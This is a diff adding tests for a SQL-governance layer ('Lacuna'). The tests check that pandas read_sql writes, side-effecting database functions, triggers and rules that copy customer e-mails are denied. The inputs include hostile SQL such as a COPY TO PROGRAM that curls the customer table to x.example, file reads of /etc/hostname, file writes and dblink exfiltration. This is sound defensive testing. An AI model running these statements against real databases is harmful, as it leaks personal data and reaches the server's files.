@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import sqlite3
 from pathlib import Path
 
@@ -703,3 +704,164 @@ def test_procedural_code_runs_with_a_warning_in_warn_mode(make_db, governed_engi
         conn.exec_driver_sql("DO $$ BEGIN CREATE TABLE t AS SELECT 1 AS n; END $$")
     with engine.connect() as conn:
         assert conn.exec_driver_sql("SELECT n FROM t").scalar() == 1
+
+
+def _audited(gov) -> list[tuple[str, bool, str | None]]:
+    """Every audit record so far, oldest first: (action, allowed, method)."""
+    return [(r.action, r.allowed, r.data.get("how", {}).get("method") or r.data.get(
+        "what", {}).get("method")) for r in reversed(gov.audit.list(limit=None))]
+
+
+@pytest.mark.parametrize("how", ["sqlite3", "connection", "engine"])
+def test_pd_read_sql_decides_a_writing_statement_as_the_sql_hook_does(
+        how, sandbox, sqlite_url, sandbox_config):
+    """``pd.read_sql`` ran its statement as pandas gave it (under Lacuna's bypass), so
+    ``INSERT INTO t SELECT email … RETURNING c`` copied 60 e-mails that the same statement sent
+    through a governed engine is denied. It is now decided as SQL before it runs, once (no
+    second record for the frame it hands back); a plain SELECT is the read it was."""
+    path = sandbox / "warehouse.db"
+    with sqlite3.connect(path) as raw:
+        raw.execute("CREATE TABLE t (c TEXT)")
+        regions = sorted(r[0] for r in raw.execute(
+            "SELECT region FROM customers WHERE customer_id <= 'C0003'"))
+    engine = sa.create_engine(sqlite_url)
+    with contextlib.ExitStack() as stack:
+        if how == "sqlite3":
+            con: object = stack.enter_context(contextlib.closing(sqlite3.connect(path)))
+        elif how == "connection":
+            con = stack.enter_context(engine.connect())
+        else:
+            con = engine
+        with lacuna.governed(sandbox_config()):
+            gov = lacuna.governor.current()
+            with pytest.raises(GovernanceViolation, match="Export to sqlite"):
+                pd.read_sql("INSERT INTO t SELECT email FROM customers RETURNING c", con)
+            if how != "engine":
+                con.commit()  # type: ignore[attr-defined]
+            assert _audited(gov)[-1][:2] == ("export", False)
+            with pytest.raises(GovernanceViolation):
+                pd.read_sql_query("INSERT INTO t SELECT email FROM customers", con)
+            frame = pd.read_sql("SELECT customer_id, email AS region FROM customers", con)
+            assert len(frame) == 60
+            assert frame.lacuna_classification.columns["region"].classification \
+                is ColumnKind.PII  # as before: the query's lineage
+            assert _audited(gov)[-1][:2] == ("read", True)
+            before = len(_audited(gov))
+            back = pd.read_sql("INSERT INTO t SELECT region FROM customers "
+                               "WHERE customer_id <= 'C0003' RETURNING c", con)
+            if how != "engine":
+                con.commit()  # type: ignore[attr-defined]
+            assert sorted(back["c"]) == regions
+            assert back.lacuna_classification.tier is Tier.PUBLIC
+            # the hook's records only: the read of what comes back, the write and its outcome
+            assert [a[:2] for a in _audited(gov)[before:]] == [
+                ("read", True), ("export", True), ("export", True)]
+    with sqlite3.connect(path) as raw:  # the denied ones wrote nothing
+        rows = raw.execute("SELECT c FROM t").fetchall()
+    assert not any("@" in r[0] for r in rows)
+    assert len(rows) == (0 if how == "engine" else 3)  # pandas rolls an Engine's back
+    engine.dispose()
+
+
+@pytest.mark.parametrize(("sql", "dialect", "why"), [
+    ("SELECT lo_export(16400, '/tmp/c')", "postgres", "lo_export(), which writes"),
+    ("SELECT lo_import('/etc/hostname')", "postgres", "lo_import()"),
+    ("SELECT pg_file_write('/tmp/x', 'a', false)", "postgres", "adminpack"),
+    ("SELECT pg_catalog.pg_read_file('/etc/hostname')", "postgres", "reads a file"),
+    ("SELECT * FROM pg_ls_dir('.')", "postgres", "reads a file"),
+    ("SELECT dblink_exec('dbname=x', 'INSERT INTO t SELECT 1')", "postgres", "another database"),
+    ("SELECT * FROM dblink('dbname=x', 'SELECT email FROM customers') AS t(e text)", "postgres",
+     "another database"),
+    ("SELECT pg_terminate_backend(1)", "postgres", "other sessions"),
+    ("SELECT set_config('search_path', 'other', false)", "postgres", "server setting"),
+    ("SELECT query_to_xml('select email from customers', true, false, '')", "postgres",
+     "as text"),
+    ("INSERT INTO t SELECT table_to_xml('customers', true, false, '')::text", "postgres",
+     "by name"),
+    ("COPY customers TO PROGRAM 'curl -d @- https://x.example'", "postgres", "PROGRAM"),
+    ("COPY t FROM PROGRAM 'cat /etc/hostname'", "postgres", "PROGRAM"),
+    ("SELECT * FROM query('SELECT email FROM customers')", "duckdb", "as text"),
+    ("SELECT * FROM query_table('customers')", "duckdb", "as text"),
+    ("SELECT content FROM read_text('/etc/hostname')", "duckdb", "any file"),
+    ("SELECT * FROM read_blob('/etc/hostname')", "duckdb", "any file"),
+    ("SELECT load_extension('x')", "sqlite", "native code"),
+    ("SELECT writefile('/tmp/x', email) FROM customers", "sqlite", "writes a file"),
+])
+def test_built_in_functions_with_side_effects_are_not_run_undecided(sql, dialect, why):
+    stmt = analyse(sql, dialect)
+    assert stmt.kind == "unknown"
+    assert why in (stmt.problem or "")
+
+
+@pytest.mark.parametrize(("sql", "dialect"), [
+    ("SELECT set_config('app.user', 'alice', false)", "postgres"),  # a session variable
+    ("SELECT lower(email), pg_backend_pid() FROM customers", "postgres"),
+    ("SELECT * FROM read_csv('customers.csv')", "duckdb"),
+    ("SELECT upper(email) FROM customers", "sqlite"),
+])
+def test_harmless_functions_are_read_as_before(sql, dialect):
+    assert analyse(sql, dialect).kind in ("read", "pass")
+
+
+def test_postgresql_side_effects_triggers_and_read_sql_fail_closed(
+        sandbox, make_db, governed_engine, sandbox_config):
+    """On the suite's PostgreSQL: a statement calling a built-in function with side effects
+    (adminpack's ``pg_file_write``, ``pg_read_file``, ``query_to_xml`` of a query given as
+    text, dblink) is denied; a write to a table whose trigger (made outside Lacuna) runs
+    PL/pgSQL is denied, and so is one with a rewrite rule; ``pd.read_sql`` of a ``SELECT`` that
+    calls a function that writes is denied as through the engine. Harmless statements run."""
+    url = make_db("postgresql", tables=("customers",))
+    out = Path(f"/tmp/lacuna-{Path(url).name}.txt")  # written by the server, if ever
+    plain = sa.create_engine(url)
+    with plain.begin() as conn:
+        conn.exec_driver_sql("CREATE EXTENSION adminpack")
+        conn.exec_driver_sql("CREATE EXTENSION dblink")
+        conn.exec_driver_sql("CREATE TABLE contacts (c TEXT)")
+        conn.exec_driver_sql("CREATE TABLE members (id TEXT)")
+        conn.exec_driver_sql("CREATE TABLE notes (n TEXT)")
+        conn.exec_driver_sql("CREATE TABLE plain (n TEXT)")
+        conn.exec_driver_sql(
+            "CREATE FUNCTION copy_mails() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
+            "INSERT INTO contacts SELECT email FROM customers; RETURN NEW; END $$")
+        conn.exec_driver_sql("CREATE TRIGGER mails AFTER INSERT OR UPDATE OR DELETE ON members "
+                             "FOR EACH ROW EXECUTE FUNCTION copy_mails()")
+        conn.exec_driver_sql("CREATE RULE also_mails AS ON INSERT TO notes DO ALSO "
+                             "INSERT INTO contacts SELECT email FROM customers")
+        conn.exec_driver_sql(
+            "CREATE FUNCTION leak() RETURNS int LANGUAGE plpgsql AS $$ BEGIN "
+            "INSERT INTO contacts SELECT email FROM customers; RETURN 1; END $$")
+    plain.dispose()
+    engine = governed_engine(url, aware=True)
+    denied = {
+        f"SELECT pg_file_write('{out}', (SELECT string_agg(email, ',') FROM customers), false)":
+            "pg_file_write(), which writes a file",
+        "SELECT pg_read_file('/etc/hostname')": "pg_read_file(), which reads a file",
+        "SELECT query_to_xml('select email from customers', true, false, '')":
+            "query_to_xml(), which runs the SQL it is given as text",
+        f"SELECT dblink_exec('{url.replace('+psycopg', '').replace('postgresql', 'postgres')}',"
+        " 'INSERT INTO contacts SELECT email FROM customers')": "dblink_exec()",
+        f"COPY customers TO PROGRAM 'cat > {out}'": "COPY … PROGRAM",
+        "INSERT INTO members VALUES ('C0001')": "trigger mails (it runs copy_mails",
+        "UPDATE members SET id = 'x'": "trigger mails",
+        "DELETE FROM members": "trigger mails",
+        "INSERT INTO notes SELECT region FROM customers": "rule also_mails",
+    }
+    for sql, why in denied.items():
+        with pytest.raises(GovernanceViolation) as err, engine.begin() as conn:
+            conn.exec_driver_sql(sql)
+        assert why in str(err.value), sql
+    assert not out.exists()
+    with lacuna.governed(lacuna.governor.current().config), engine.connect() as conn:
+        with pytest.raises(GovernanceViolation, match="it calls leak"):
+            pd.read_sql("SELECT leak() AS n", conn)
+        conn.commit()
+        frame = pd.read_sql("SELECT region, lower(email) AS e FROM customers", conn)
+        assert frame.lacuna_classification.columns["e"].classification is ColumnKind.PII
+    with engine.begin() as conn:  # nothing ran; harmless statements do
+        assert conn.exec_driver_sql("SELECT COUNT(*) FROM contacts").scalar() == 0
+        assert conn.exec_driver_sql("SELECT COUNT(*) FROM members").scalar() == 0
+        conn.exec_driver_sql("INSERT INTO plain SELECT region FROM customers")
+        conn.exec_driver_sql("DELETE FROM plain WHERE n IS NULL")
+        assert conn.exec_driver_sql("SELECT set_config('app.user', 'alice', false)"
+                                    ).scalar() == "alice"
+        assert conn.exec_driver_sql("SELECT COUNT(*) FROM plain").scalar() == 60
